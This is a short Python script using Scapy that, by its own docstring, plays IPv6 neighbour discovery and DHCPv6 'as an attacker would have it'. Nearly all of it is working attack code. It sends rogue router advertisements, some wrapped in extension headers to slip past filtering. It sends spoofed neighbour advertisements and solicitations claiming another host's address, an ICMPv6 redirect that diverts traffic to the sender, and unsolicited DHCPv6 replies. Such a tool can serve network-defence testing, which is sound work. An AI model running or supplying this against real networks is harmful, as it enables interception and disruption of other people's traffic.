"""Neighbour discovery and DHCPv6 as an attacker would have it: a router that is none, another's address, a redirect.

Arguments: interface, own hardware and link-local address, a host's hardware and link-local address, an address of a third
host, and a network to tell of.
"""
import sys

from scapy.all import (
    DHCP6_Advertise, DHCP6_Reply, UDP, Ether, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect,
    ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, conf,
    sendp,
)

conf.verb = 0
interface, mac, own, host_mac, host, victim, network = sys.argv[1:8]
ALL = ("33:33:00:00:00:01", "ff02::1")
ONE = (host_mac, host)


def advertisement(extensions=None):
    """A router's word about the network, for half an hour."""
    said = ICMPv6ND_RA(routerlifetime=1800, prf=1) / ICMPv6NDOptSrcLLAddr(lladdr=mac)
    said = said / ICMPv6NDOptPrefixInfo(prefix=network, prefixlen=64, L=1, A=1)
    return extensions / said if extensions else said


def claim(address):
    return ICMPv6ND_NA(tgt=address, R=0, S=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac)


packets = []
for to_mac, to in (ALL, ONE):
    ip = IPv6(src=own, dst=to, hlim=255)
    packets += [Ether(src=mac, dst=to_mac) / ip / payload for payload in (
        advertisement(),
        advertisement(IPv6ExtHdrDestOpt()),
        advertisement(IPv6ExtHdrFragment()),
        claim(victim),
    )]
    # In the victim's own name, and as a question that teaches its source.
    named = IPv6(src=victim, dst=to, hlim=255)
    packets.append(Ether(src=mac, dst=to_mac) / named / claim(victim))
    packets.append(Ether(src=mac, dst=to_mac) / named / ICMPv6ND_NS(tgt=host) / ICMPv6NDOptSrcLLAddr(lladdr=mac))
redirect = ICMPv6ND_Redirect(tgt=own, dst=victim) / ICMPv6NDOptDstLLAddr(lladdr=mac)
packets.append(Ether(src=mac, dst=host_mac) / IPv6(src=own, dst=host, hlim=255) / redirect)
for message in (DHCP6_Advertise, DHCP6_Reply):
    datagram = IPv6(src=own, dst=host) / UDP(sport=547, dport=546) / message(trid=7)
    packets.append(Ether(src=mac, dst=host_mac) / datagram)
sendp(packets, iface=interface, count=3, inter=0.02)
